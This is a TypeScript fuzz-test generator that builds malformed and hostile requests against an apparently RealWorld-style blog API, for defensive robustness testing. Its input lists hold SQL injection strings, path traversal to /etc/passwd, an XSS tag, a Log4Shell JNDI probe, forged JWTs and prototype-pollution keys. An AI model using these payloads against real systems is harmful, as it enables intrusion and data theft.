import { limits, type OperationId, routes } from '@journey/contract';
import fc from 'fast-check';

/*
 * A plan is one malformed request described as plain data, before it meets the server: which route,
 * which token, which target (the fixture's article, the attacker's own "sandbox" article, or a random
 * slug), which body. fast-check generates plans; `bad-input.ts` turns each into a request using the ids
 * created at run time, so one seed always yields the same list of requests.
 *
 * Each plan also carries what the server may answer. Rather than guess in which order a server checks
 * auth, existence, ownership and the body, every check that must fail contributes its statuses, every
 * check that may fail contributes them as well, and 2xx is allowed only when no check must fail.
 */

/** What one aspect of a request allows: `fail` = must be refused with one of `codes`; `maybe` = may be. */
export type Check = { level: 'pass' } | { level: 'fail' | 'maybe'; codes: number[] };
export const pass: Check = { level: 'pass' };
export const fail = (...codes: number[]): Check => ({ level: 'fail', codes });
export const maybe = (...codes: number[]): Check => ({ level: 'maybe', codes });

export type SlugTarget = 'fixture' | 'sandbox' | { random: string; raw?: boolean };
export type UserTarget = 'owner' | 'self' | { random: string };
export type IdTarget = 'fixture' | 'sandbox' | { random: string };

export type TokenPlan =
  | { kind: 'none' }
  /** The attacker's own token, `Token <jwt>`. */
  | { kind: 'valid' }
  /** The attacker's own token in another scheme spelling; a server may accept it or not. */
  | { kind: 'scheme'; format: string }
  /** An Authorization header of junk. */
  | { kind: 'junk'; header: string }
  /** A token that impersonates the fixture owner and must be refused (see jwt.ts). */
  | { kind: 'forged'; index: number };

export type BodyPlan =
  | { kind: 'json'; value: unknown; check: Check; note: string }
  | { kind: 'text'; text: string | Uint8Array; contentType: string | null; check: Check; note: string }
  /** A body of `bytes` bytes; more than the 512 KiB limit must be 413. */
  | { kind: 'huge'; bytes: number; chunked: boolean; check: Check; note: string };

export interface Plan {
  label: string;
  method: string;
  /** Fastify-style template, e.g. `/articles/:slug/comments/:id`, relative to `/api`. */
  template: string;
  /** The contract route this request addresses, if any (unknown routes and methods have none). */
  op?: OperationId;
  slug?: SlugTarget;
  username?: UserTarget;
  id?: IdTarget;
  token: TokenPlan;
  query?: { text: string; check: Check };
  body?: BodyPlan;
  /** Set for unknown routes and methods. */
  routeCheck?: Check;
}

// ---- Strings that have broken servers before ---------------------------------------------------

export const sqlStrings = [
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "'; DROP TABLE articles; --",
  "admin'--",
  "1' UNION SELECT password FROM users --",
  "%' OR '1'='1",
  '1; SELECT pg_sleep(20); --',
  "' OR sleep(20) --",
];

export const unicodeStrings = [
  '🐉 Dragons 🔥',
  '👩‍👩‍👧‍👦',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe',
  'zero\u200Bwidth',
  '\u200B',
  '\u200D\u200C\uFEFF',
  'a\u0301\u0301\u0301\u0301',
  '日本語のタイトル',
  'Crème brûlée',
  'İstanbul ǅ ß ﬁ',
  'Ǆungla',
  '\uD800 lone surrogate',
  'null\u0000byte',
  '\u0007\u001b[31mred',
  'Ω≈ç√∫˜µ≤≥÷',
  '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐',
];

export const otherStrings = [
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally.
  '${jndi:ldap://example.com/a}',
  '-1',
  '1e9',
  '0',
  'NaN',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '   ',
  '\t\n',
  'x',
];

const special = [...sqlStrings, ...unicodeStrings, ...otherStrings];

/** Strings likely to upset a parser, a database or a slug generator. */
export const weird: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...special) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 30 }) },
);

/** Values of the wrong JSON type for a string field. */
const wrongTypeValue = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant({}),
  fc.constant([]),
  fc.constant(['x']),
  fc.constant({ $ne: null }),
  fc.constant({ $gt: '' }),
  fc.constant([1, 2, 3]),
);

// ---- Request bodies ----------------------------------------------------------------------------

interface Field {
  name: string;
  required: boolean;
  nullable?: boolean;
  max: number;
  valid: fc.Arbitrary<unknown>;
  /** An over-long value for the field. */
  long?: (n: number) => unknown;
}

const username = fc.oneof(weird, fc.stringMatching(/^[a-z][a-z0-9_]{2,20}$/));
const email = fc.oneof(
  weird,
  weird.map((w) => `${w}@example.com`),
  fc.stringMatching(/^[a-z]{3,12}$/).map((s) => `${s}@example.com`),
);
const password = fc.oneof(
  weird,
  fc.constantFrom('password123', 'correct horse battery', '        ', 'short'),
);
const ascii = (n: number) => 'a'.repeat(n);

/** The request body fields of each body-taking route, straight from the contract and its limits. */
export const bodyRoutes: Partial<Record<OperationId, { wrapper: string; fields: Field[] }>> = {
  Login: {
    wrapper: 'user',
    fields: [
      {
        name: 'email',
        required: true,
        max: limits.email,
        valid: email,
        long: (n) => `${ascii(n)}@example.com`,
      },
      { name: 'password', required: true, max: limits.password.max, valid: password, long: ascii },
    ],
  },
  CreateUser: {
    wrapper: 'user',
    fields: [
      { name: 'username', required: true, max: limits.username, valid: username, long: ascii },
      {
        name: 'email',
        required: true,
        max: limits.email,
        valid: email,
        long: (n) => `${ascii(n)}@example.com`,
      },
      { name: 'password', required: true, max: limits.password.max, valid: password, long: ascii },
    ],
  },
  UpdateCurrentUser: {
    wrapper: 'user',
    fields: [
      {
        name: 'email',
        required: false,
        max: limits.email,
        valid: email,
        long: (n) => `${ascii(n)}@example.com`,
      },
      { name: 'username', required: false, max: limits.username, valid: username, long: ascii },
      { name: 'password', required: false, max: limits.password.max, valid: password, long: ascii },
      { name: 'bio', required: false, nullable: true, max: limits.bio, valid: fc.option(weird), long: ascii },
      {
        name: 'image',
        required: false,
        nullable: true,
        max: limits.image,
        valid: fc.option(weird),
        long: ascii,
      },
    ],
  },
  CreateArticle: {
    wrapper: 'article',
    fields: [
      { name: 'title', required: true, max: limits.title, valid: weird, long: ascii },
      { name: 'description', required: true, max: limits.description, valid: weird, long: ascii },
      { name: 'body', required: true, max: limits.body, valid: weird, long: ascii },
      {
        name: 'tagList',
        required: false,
        max: limits.tagsPerArticle,
        valid: fc.array(weird, { maxLength: 5 }),
        long: (n) => Array.from({ length: n }, (_, i) => `tag${i}`),
      },
    ],
  },
  UpdateArticle: {
    wrapper: 'article',
    fields: [
      { name: 'title', required: false, max: limits.title, valid: weird, long: ascii },
      { name: 'description', required: false, max: limits.description, valid: weird, long: ascii },
      { name: 'body', required: false, max: limits.body, valid: weird, long: ascii },
    ],
  },
  CreateArticleComment: {
    wrapper: 'comment',
    fields: [{ name: 'body', required: true, max: limits.comment, valid: weird, long: ascii }],
  },
};

/** Keys a client must not be able to set: ids, counters, ownership, prototype pollution. */
const extraFields = fc.subarray(
  [
    ['id', 1],
    ['admin', true],
    ['role', 'admin'],
    ['token', 'x'],
    ['favoritesCount', 999],
    ['favorited', true],
    ['slug', 'hijacked-slug'],
    ['author', { username: 'someone-else' }],
    ['createdAt', '1970-01-01T00:00:00.000Z'],
    ['following', true],
    ['__proto__', { admin: true }],
    ['constructor', { prototype: { admin: true } }],
  ] as Array<[string, unknown]>,
  { minLength: 1, maxLength: 4 },
);

/** Builds an object from entries without letting `__proto__` set the prototype. */
function objectOf(entries: Array<[string, unknown]>): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (const [key, value] of entries)
    Object.defineProperty(object, key, { value, enumerable: true, writable: true });
  return object;
}

const validInner = (fields: Field[]) =>
  fc
    .tuple(...fields.map((f) => (f.required ? f.valid : fc.option(f.valid, { nil: undefined }))))
    .map((values) =>
      objectOf(
        fields.flatMap(
          (f, i): Array<[string, unknown]> => (values[i] === undefined ? [] : [[f.name, values[i]]]),
        ),
      ),
    );

/**
 * Bodies for a body-taking route. Well-formed ones may still break a business rule (blank, bad
 * username, taken), so they are `maybe 422`; everything else must be refused.
 */
export function bodyPlan(op: OperationId): fc.Arbitrary<BodyPlan> {
  const spec = bodyRoutes[op];
  if (!spec) throw new Error(`${op} takes no body`);
  const { wrapper, fields } = spec;
  const inner = validInner(fields);
  const wrap = (value: unknown) => ({ [wrapper]: value });
  const loginish = op === 'Login' ? [401] : [];
  const json = (value: unknown, check: Check, note: string): BodyPlan => ({
    kind: 'json',
    value,
    check,
    note,
  });

  const wellFormed = inner.map((value) => json(wrap(value), maybe(422, ...loginish), 'well-formed'));
  const withExtras = fc
    .tuple(inner, extraFields, fc.boolean())
    .map(([value, extras, outside]) =>
      json(
        outside ? { ...wrap(value), ...objectOf(extras) } : wrap({ ...value, ...objectOf(extras) }),
        maybe(400, 422, ...loginish),
        `extra fields ${extras.map(([k]) => k).join(', ')}`,
      ),
    );
  const wrongType = fc.tuple(inner, fc.constantFrom(...fields), wrongTypeValue).map(([value, field, wrong]) =>
    json(
      // `[]` and `["x"]` are valid tag lists, so tag lists get the wrong value wrapped in an array instead.
      wrap({
        ...value,
        [field.name]: field.name === 'tagList' && typeof wrong === 'object' ? [wrong] : wrong,
      }),
      fail(400, 422, ...loginish),
      `${field.name} of the wrong type`,
    ),
  );
  const nullField = fc
    .tuple(inner, fc.constantFrom(...fields.filter((f) => !f.nullable)))
    .map(([value, field]) =>
      json(
        wrap({ ...value, [field.name]: null }),
        // `null` for a required field must be refused; for an optional one a server may read it as "absent".
        field.required ? fail(400, 422, ...loginish) : maybe(400, 422),
        `${field.name}: null`,
      ),
    );
  const required = fields.filter((f) => f.required);
  const missing = required.length
    ? fc.tuple(inner, fc.constantFrom(...required)).map(([value, field]) => {
        const { [field.name]: _dropped, ...rest } = value;
        return json(wrap(rest), fail(400, 422, ...loginish), `missing ${field.name}`);
      })
    : wellFormed;
  const overLong = fc
    .tuple(inner, fc.constantFrom(...fields), fc.integer({ min: 1, max: 64 }))
    .map(([value, field, extra]) =>
      json(
        wrap({ ...value, [field.name]: field.long!(field.max + extra) }),
        fail(400, 422, ...loginish),
        `${field.name} over ${field.max}`,
      ),
    );
  const wrongWrapper = fc
    .constantFrom<unknown>(
      { [wrapper]: 'x' },
      { [wrapper]: null },
      { [wrapper]: [] },
      { [wrapper]: 42 },
      { [wrapper]: [{}] },
      {},
      [],
      null,
      'x',
      42,
      true,
      { [wrapper === 'user' ? 'article' : 'user']: { title: 'x', email: 'x@example.com' } },
    )
    .map((value) => json(value, fail(400, 422, ...loginish), 'wrong wrapper'));
  const malformed = fc
    .oneof(
      inner.chain((value) => {
        const text = JSON.stringify(wrap(value));
        return fc.integer({ min: 0, max: Math.max(0, text.length - 2) }).map((cut) => text.slice(0, cut));
      }),
      fc.constantFrom(
        '',
        '{',
        '}',
        '{"',
        `{"${wrapper}":`,
        `{'${wrapper}': {}}`,
        `{${wrapper}: {}}`,
        'undefined',
        'NaN',
        `{"${wrapper}": {}}}`,
        `{"${wrapper}": {},}`,
        `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
      ),
      fc.uint8Array({ minLength: 1, maxLength: 64 }),
    )
    .map(
      (text) =>
        ({
          kind: 'text',
          text,
          contentType: 'application/json',
          check: fail(400, 422, ...loginish),
          note: 'malformed JSON',
        }) as BodyPlan,
    );
  const wrongContentType = fc
    .tuple(
      inner,
      fc.constantFrom<string | null>(
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'image/png',
        null,
      ),
    )
    .map(
      ([value, contentType]) =>
        ({
          kind: 'text',
          text: JSON.stringify(wrap(value)),
          contentType,
          check: fail(400, 415, 422, ...loginish),
          note: `JSON sent as ${contentType ?? 'no content type'}`,
        }) as BodyPlan,
    );
  // Valid JSON, but 5,000 levels deep in an unknown field: a recursive parser or validator may blow its stack.
  const deep = fc.constant<BodyPlan>({
    kind: 'text',
    text: `{"${wrapper}": {"deep": ${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}}`,
    contentType: 'application/json',
    check: maybe(400, 413, 422, ...loginish),
    note: 'deeply nested extra field',
  });
  const huge = fc
    .tuple(fc.integer({ min: limits.requestBody + 1, max: limits.requestBody + 1024 * 1024 }), fc.boolean())
    .map(([bytes, chunked]) => hugePlan(bytes, chunked));

  return fc.oneof(
    { weight: 6, arbitrary: wellFormed },
    { weight: 2, arbitrary: withExtras },
    { weight: 3, arbitrary: wrongType },
    { weight: 1, arbitrary: nullField },
    { weight: 2, arbitrary: missing },
    { weight: 2, arbitrary: overLong },
    { weight: 2, arbitrary: wrongWrapper },
    { weight: 3, arbitrary: malformed },
    { weight: 2, arbitrary: wrongContentType },
    { weight: 1, arbitrary: huge },
    { weight: 1, arbitrary: deep },
  );
}

/** Over the body limit: 413. Just under it, the body is still far over every field limit: 400/422. */
export function hugePlan(bytes: number, chunked: boolean): BodyPlan {
  return bytes > limits.requestBody
    ? { kind: 'huge', bytes, chunked, check: fail(413), note: `${bytes} bytes${chunked ? ', chunked' : ''}` }
    : { kind: 'huge', bytes, chunked, check: fail(400, 422), note: `${bytes} bytes (under the limit)` };
}

// ---- Tokens, targets, query strings ------------------------------------------------------------

export const tokenPlan = (forgedCount: number): fc.Arbitrary<TokenPlan> =>
  fc.oneof(
    { weight: 10, arbitrary: fc.constant<TokenPlan>({ kind: 'valid' }) },
    { weight: 3, arbitrary: fc.constant<TokenPlan>({ kind: 'none' }) },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom('Bearer %s', 'token %s', 'Token  %s', '%s', 'JWT %s')
        .map((format): TokenPlan => ({ kind: 'scheme', format })),
    },
    {
      weight: 3,
      arbitrary: fc
        .oneof(
          fc.constantFrom(
            'Token',
            'Token ',
            'Token null',
            'Token undefined',
            'Token a.b.c',
            'Token eyJhbGciOiJub25lIn0.e30.',
            'Basic YWRtaW46YWRtaW4=',
            'Bearer',
            `Token ${'a'.repeat(4000)}`,
            "Token ' OR 1=1 --",
          ),
          fc.string({ minLength: 1, maxLength: 200 }).map((s) => s.trim() || 'x'),
          fc.string({ minLength: 1, maxLength: 200 }).map((s) => `Token ${s.trim() || 'x'}`),
        )
        .map((header): TokenPlan => ({ kind: 'junk', header })),
    },
    {
      weight: 4,
      arbitrary: fc.nat({ max: forgedCount - 1 }).map((index): TokenPlan => ({ kind: 'forged', index })),
    },
  );

const randomSlug = fc.oneof(
  fc
    // '\u0000' is sent as %00: a real NUL byte, which PostgreSQL text columns refuse.
    .constantFrom(
      '-1',
      '1e9',
      'abc',
      '0',
      'null',
      '\u0000',
      '%00',
      '🐉',
      "' OR 1=1 --",
      '"; DROP TABLE articles; --',
    )
    .map((random) => ({ random })),
  fc.constantFrom('../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '%').map((random) => ({
    random,
    raw: true,
  })),
  weird.filter((s) => s !== 'feed').map((random) => ({ random })),
  fc.constant({ random: 'a'.repeat(1_000) }),
);
export const slugTarget: fc.Arbitrary<SlugTarget> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<SlugTarget>('fixture') },
  { weight: 2, arbitrary: fc.constant<SlugTarget>('sandbox') },
  { weight: 3, arbitrary: randomSlug },
);
export const userTarget: fc.Arbitrary<UserTarget> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<UserTarget>('owner') },
  { weight: 1, arbitrary: fc.constant<UserTarget>('self') },
  { weight: 3, arbitrary: weird.map((random) => ({ random })) },
);
export const idTarget: fc.Arbitrary<IdTarget> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<IdTarget>('fixture') },
  { weight: 1, arbitrary: fc.constant<IdTarget>('sandbox') },
  {
    weight: 3,
    arbitrary: fc
      .oneof(
        fc.constantFrom(
          '-1',
          '1e9',
          'abc',
          '0',
          '1.5',
          '99999999999999999999',
          '9007199254740993',
          '-0',
          '0x1',
          '%00',
          '\u0000',
        ),
        fc.constantFrom('1 OR 1=1', '1;DROP TABLE comments', '../1'),
        fc.integer().map(String),
        weird,
      )
      .map((random) => ({ random })),
  },
);

/** Pagination values: clearly invalid ones must be refused; odd ones may go either way. */
const pageValue = fc.oneof(
  fc.constantFrom('1', '5', '20', '100').map((v) => ({ v, check: pass })),
  fc.constantFrom('-1', 'abc', '-100', 'NaN', 'x1').map((v) => ({ v, check: fail(400, 422) })),
  fc
    .constantFrom(
      '1e309',
      '1e3',
      '0',
      '1.5',
      '',
      '%00',
      '99999999999999999999',
      'Infinity',
      '%20%205',
      '0x10',
      '05',
      '101',
    )
    .map((v) => ({ v, check: maybe(400, 422) })),
);
const filterValue = fc.oneof(
  weird.map((w) => pct(w)),
  fc.constantFrom('%00', '%', '%zz', '%C3%28', "'%20OR%201=1%20--", '%22;%20DROP%20TABLE%20users;%20--'),
);

/** A query string for the list and feed endpoints (filters only on the list). */
export function queryPlan(filters: boolean): fc.Arbitrary<{ text: string; check: Check }> {
  const entries = fc.tuple(
    fc.option(pageValue, { nil: undefined }),
    fc.option(pageValue, { nil: undefined }),
    filters
      ? fc.option(fc.constantFrom('tag', 'author', 'favorited'), { nil: undefined })
      : fc.constant(undefined),
    filterValue,
    fc.boolean(),
  );
  return entries.map(([limit, offset, filter, value, repeat]) => {
    const parts: string[] = [];
    const checks: Check[] = [];
    const add = (part: string, check: Check = pass) => {
      parts.push(part);
      checks.push(check);
    };
    if (limit) add(`limit=${limit.v}`, limit.check);
    if (offset) add(`offset=${offset.v}`, offset.check);
    if (filter) add(`${filter}=${value}`);
    if (repeat) add(filter ? `${filter}=x` : 'limit=1&limit=2', maybe(400, 422));
    const failing = checks.some((c) => c.level === 'fail');
    const odd = checks.some((c) => c.level === 'maybe');
    return { text: parts.join('&'), check: failing ? fail(400, 422) : odd ? maybe(400, 422) : pass };
  });
}

/** Percent-encodes every byte of the UTF-8 form except unreserved characters; never throws. */
export function pct(value: string): string {
  let out = '';
  for (const byte of Buffer.from(value, 'utf8')) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

// ---- Whole plans -------------------------------------------------------------------------------

const operations = Object.keys(routes) as OperationId[];

function targetsFor(template: string) {
  return fc.record({
    slug: template.includes(':slug') ? slugTarget : fc.constant(undefined),
    username: template.includes(':username') ? userTarget : fc.constant(undefined),
    id: template.includes(':id') ? idTarget : fc.constant(undefined),
  });
}

/** A request to a real route, with any token, target, query and body. */
function routePlan(forgedCount: number): fc.Arbitrary<Plan> {
  return fc.constantFrom(...operations).chain((op) => {
    const route = routes[op];
    const query =
      op === 'GetArticles'
        ? queryPlan(true)
        : op === 'GetArticlesFeed'
          ? queryPlan(false)
          : fc.constant({ text: '', check: pass });
    const body: fc.Arbitrary<BodyPlan | undefined> = bodyRoutes[op]
      ? bodyPlan(op)
      : route.method === 'GET'
        ? fc.constant(undefined)
        : fc.option(
            fc.constantFrom<BodyPlan>(
              {
                kind: 'text',
                text: '{',
                contentType: 'application/json',
                check: maybe(400, 415, 422),
                note: 'stray body',
              },
              {
                kind: 'text',
                text: 'junk',
                contentType: 'text/plain',
                check: maybe(400, 415, 422),
                note: 'stray body',
              },
            ),
            { nil: undefined, freq: 4 },
          );
    return fc
      .record({
        token: tokenPlan(forgedCount),
        targets: targetsFor(route.path),
        query,
        body,
        head: fc.nat(9),
      })
      .map(({ token, targets, query, body, head }): Plan => {
        // A HEAD is a GET without the body: same checks, so it rides on GET plans now and then.
        const method = route.method === 'GET' && head === 0 ? 'HEAD' : route.method;
        return {
          label: `${op}${body ? `: ${body.note}` : ''}${query.text ? `, query ${query.check.level}` : ''}`,
          method,
          template: route.path,
          op,
          ...definedOnly(targets),
          token,
          ...(query.text ? { query } : {}),
          ...(body ? { body } : {}),
        };
      });
  });
}

const paths = [...new Set(Object.values(routes).map((r) => r.path))];
const unknownPaths = [
  '/admin',
  '/users/1',
  '/users/login/extra',
  '/article',
  '/tags/1',
  '/profiles',
  '/user/1',
  '/articles/feed/x',
  '/.env',
  '/api',
  '/graphql',
  '/users/me',
  '/articles/x/comments/1/extra',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/../../etc/passwd',
];

/** Paths no route serves, and real paths with methods they do not accept. */
function unroutedPlan(forgedCount: number): fc.Arbitrary<Plan> {
  const unknownPath = fc
    .record({
      path: fc.oneof(
        fc.constantFrom(...unknownPaths),
        fc
          .array(weird.map(pct), { minLength: 1, maxLength: 4 })
          .map((segments) => `/nope/${segments.join('/')}`),
      ),
      method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH'),
      token: tokenPlan(forgedCount),
    })
    .map(
      ({ path, method, token }): Plan => ({
        label: 'unknown route',
        method,
        template: path,
        token,
        routeCheck: fail(400, 404, 405),
      }),
    );
  const wrongMethod = fc
    .record({
      template: fc.constantFrom(...paths),
      method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'OPTIONS'),
      token: tokenPlan(forgedCount),
    })
    .filter(({ template, method }) => !routed(method, template))
    .chain(({ template, method, token }) =>
      targetsFor(template).map(
        (targets): Plan => ({
          label: `${method} on ${template}`,
          method,
          template,
          ...definedOnly(targets),
          token,
          // OPTIONS may be answered for CORS preflight; other unrouted methods must be refused.
          routeCheck: method === 'OPTIONS' ? maybe(400, 404, 405) : fail(400, 404, 405),
        }),
      ),
    );
  return fc.oneof(unknownPath, wrongMethod);
}

/** Whether some route serves `method` on `template`, e.g. `PUT /articles/feed` is `PUT /articles/:slug`. */
function routed(method: string, template: string): boolean {
  const segments = template.split('/');
  return Object.values(routes).some((r) => {
    const other = r.path.split('/');
    return (
      r.method === method &&
      other.length === segments.length &&
      other.every((seg, i) => seg === segments[i] || seg.startsWith(':'))
    );
  });
}

/** Registering, renaming or logging in with the fixture owner's email or username. */
function takenPlan(): fc.Arbitrary<Plan> {
  return fc.oneof(
    fc
      .constantFrom<[string, unknown, Check]>(
        [
          'taken username',
          { username: FIXTURE.username, email: FIXTURE.freshEmail, password: 'password123' },
          fail(422),
        ],
        [
          'taken email',
          { username: FIXTURE.freshUsername, email: FIXTURE.email, password: 'password123' },
          fail(422),
        ],
        [
          'taken email, other case',
          { username: FIXTURE.freshUsername, email: FIXTURE.emailUpper, password: 'password123' },
          maybe(422),
        ],
        [
          'taken username, other case',
          { username: FIXTURE.usernameUpper, email: FIXTURE.freshEmail, password: 'password123' },
          maybe(422),
        ],
      )
      .map(
        ([label, user, check]): Plan => ({
          label: `CreateUser: ${label}`,
          method: 'POST',
          template: '/users',
          op: 'CreateUser',
          token: { kind: 'none' },
          body: { kind: 'json', value: { user }, check, note: label },
        }),
      ),
    fc
      .constantFrom<[string, unknown]>(
        ['taken email', { email: FIXTURE.email }],
        ['taken username', { username: FIXTURE.username }],
      )
      .map(
        ([label, user]): Plan => ({
          label: `UpdateCurrentUser: ${label}`,
          method: 'PUT',
          template: '/user',
          op: 'UpdateCurrentUser',
          token: { kind: 'valid' },
          body: { kind: 'json', value: { user }, check: fail(422), note: label },
        }),
      ),
    fc
      .oneof(
        weird,
        fc.constantFrom(FIXTURE.passwordWithSpace, FIXTURE.passwordUpper, '', "' OR '1'='1", "' OR 1=1 --"),
        wrongTypeValue,
      )
      .map(
        (password): Plan => ({
          label: 'Login: fixture email, wrong password',
          method: 'POST',
          template: '/users/login',
          op: 'Login',
          token: { kind: 'none' },
          body: {
            kind: 'json',
            value: { user: { email: FIXTURE.email, password } },
            check: fail(400, 401, 422),
            note: 'wrong password',
          },
        }),
      ),
    fc.constantFrom(`${FIXTURE.email}' --`, `${FIXTURE.email}' OR '1'='1`, "' OR 1=1 --").map(
      (email): Plan => ({
        label: 'Login: SQL in the email',
        method: 'POST',
        template: '/users/login',
        op: 'Login',
        token: { kind: 'none' },
        body: {
          kind: 'json',
          value: { user: { email, password: "' OR '1'='1" } },
          check: fail(400, 401, 422),
          note: 'SQL email',
        },
      }),
    ),
  );
}

/** Placeholders for values known only at run time, swapped in when a plan is built. */
export const FIXTURE = {
  // Each ends in NUL so that none is a prefix of another.
  email: '\u0000fixture-email\u0000',
  emailUpper: '\u0000fixture-email-upper\u0000',
  username: '\u0000fixture-username\u0000',
  usernameUpper: '\u0000fixture-username-upper\u0000',
  passwordWithSpace: '\u0000fixture-password-space\u0000',
  passwordUpper: '\u0000fixture-password-upper\u0000',
  freshEmail: '\u0000fresh-email\u0000',
  freshUsername: '\u0000fresh-username\u0000',
} as const;

/** Every generated plan: mostly real routes, then unrouted requests and impersonation attempts. */
export function planArbitrary(forgedCount: number): fc.Arbitrary<Plan> {
  return fc.oneof(
    { weight: 14, arbitrary: routePlan(forgedCount) },
    { weight: 2, arbitrary: unroutedPlan(forgedCount) },
    { weight: 2, arbitrary: takenPlan() },
  );
}

function definedOnly<T extends object>(value: T): Partial<T> {
  return Object.fromEntries(Object.entries(value).filter(([, v]) => v !== undefined)) as Partial<T>;
}

// ---- The fixed corpus --------------------------------------------------------------------------

/**
 * Requests sent on every run whatever the seed, so that each class of bad input named in the brief is
 * always covered, even with a small `runs`.
 */
export function corpus(forgedCount: number): Plan[] {
  const plans: Plan[] = [];
  const add = (plan: Plan) => plans.push(plan);
  operations.forEach((op, i) => {
    const route = routes[op];
    const targets = {
      ...(route.path.includes(':slug') ? { slug: 'fixture' as const } : {}),
      ...(route.path.includes(':username') ? { username: 'owner' as const } : {}),
      ...(route.path.includes(':id') ? { id: 'fixture' as const } : {}),
    };
    const body = sampleBody(op);
    const base = { method: route.method, template: route.path, op, ...targets, ...(body ? { body } : {}) };
    add({ ...base, label: `${op}: forged token`, token: { kind: 'forged', index: i % forgedCount } });
    add({ ...base, label: `${op}: forged token`, token: { kind: 'forged', index: (i + 5) % forgedCount } });
    add({
      ...base,
      label: `${op}: junk token`,
      token: { kind: 'junk', header: `Token ${'x'.repeat(i + 1)}.y.z` },
    });
    add({ ...base, label: `${op}: no token`, token: { kind: 'none' } });
    add({ ...base, label: `${op}: Bearer`, token: { kind: 'scheme', format: 'Bearer %s' } });
  });
  for (const op of Object.keys(bodyRoutes) as OperationId[]) {
    const route = routes[op];
    const base = {
      method: route.method,
      template: route.path,
      op,
      token: { kind: 'valid' } as TokenPlan,
      ...(route.path.includes(':slug') ? { slug: 'sandbox' as const } : {}),
    };
    const text = (text: string, contentType: string | null, note: string, check = fail(400, 422)) =>
      add({ ...base, label: `${op}: ${note}`, body: { kind: 'text', text, contentType, check, note } });
    text('', 'application/json', 'empty body');
    text('{', 'application/json', 'truncated JSON');
    text('null', 'application/json', 'null');
    text('[]', 'application/json', 'array');
    text('{"user": "x", "article": "x", "comment": "x"}', 'application/json', 'string wrapper');
    const sample = sampleBody(op);
    text(
      JSON.stringify(sample?.kind === 'json' ? sample.value : {}),
      'text/plain',
      'text/plain',
      fail(400, 415, 422),
    );
    add({ ...base, label: `${op}: huge`, body: hugePlan(limits.requestBody + 1, false) });
    add({ ...base, label: `${op}: huge, chunked`, body: hugePlan(limits.requestBody + 64 * 1024, true) });
    add({ ...base, label: `${op}: just under the limit`, body: hugePlan(limits.requestBody - 64, false) });
  }
  const list = (text: string, check: Check, op: 'GetArticles' | 'GetArticlesFeed' = 'GetArticles') =>
    add({
      label: `${op}: ?${text}`,
      method: 'GET',
      template: routes[op].path,
      op,
      token: { kind: 'valid' },
      query: { text, check },
    });
  list('limit=abc', fail(400, 422));
  list('limit=-1', fail(400, 422));
  list('offset=1e309', maybe(400, 422));
  list('offset=-1', fail(400, 422));
  list('tag=%00', pass);
  list(`tag=${pct("' OR 1=1 --")}`, pass);
  list(`author=${pct('"; DROP TABLE users; --')}`, pass);
  list('favorited=%00', pass);
  list('author=%00', pass);
  list('tag=a%00b&author=%00&favorited=%00', pass);
  list('limit=abc', fail(400, 422), 'GetArticlesFeed');
  list('offset=-1', fail(400, 422), 'GetArticlesFeed');
  for (const random of ['-1', '1e9', 'abc', "' OR 1=1 --", '../../etc/passwd', '\u0000', 'a\u0000b']) {
    for (const op of ['GetArticle', 'GetArticleComments', 'CreateArticleFavorite'] as const) {
      add({
        label: `${op}: slug ${random}`,
        method: routes[op].method,
        template: routes[op].path,
        op,
        slug: { random },
        token: { kind: 'valid' },
      });
    }
  }
  add({
    label: 'GetArticle: raw traversal',
    method: 'GET',
    template: '/articles/:slug',
    op: 'GetArticle',
    slug: { random: '../../etc/passwd', raw: true },
    token: { kind: 'none' },
  });
  for (const random of ['-1', '1e9', 'abc', '../../etc/passwd']) {
    add({
      label: `DeleteArticleComment: id ${random}`,
      method: 'DELETE',
      template: routes.DeleteArticleComment.path,
      op: 'DeleteArticleComment',
      slug: 'sandbox',
      id: { random },
      token: { kind: 'valid' },
    });
  }
  add({
    label: 'GetProfileByUsername: SQL',
    method: 'GET',
    template: '/profiles/:username',
    op: 'GetProfileByUsername',
    username: { random: "' OR 1=1 --" },
    token: { kind: 'none' },
  });
  add({
    label: 'FollowUserByUsername: unicode',
    method: 'POST',
    template: '/profiles/:username/follow',
    op: 'FollowUserByUsername',
    username: { random: 'مرحبا\u200B' },
    token: { kind: 'valid' },
  });
  // Valid articles with hostile titles: must be created, with a well-formed, unique slug.
  for (const title of [
    '🐉🔥',
    'مرحبا بالعالم',
    'zero\u200Bwidth',
    '日本語',
    "' OR 1=1 --",
    '"; DROP TABLE users; --',
    '🐉🔥',
    'Crème brûlée',
    'Crème brûlée',
    'nul\u0000byte',
  ]) {
    add({
      label: 'CreateArticle: hostile title',
      method: 'POST',
      template: '/articles',
      op: 'CreateArticle',
      token: { kind: 'valid' },
      body: {
        kind: 'json',
        value: { article: { title, description: title, body: title, tagList: [title, '\u200B', 'ok'] } },
        check: maybe(422),
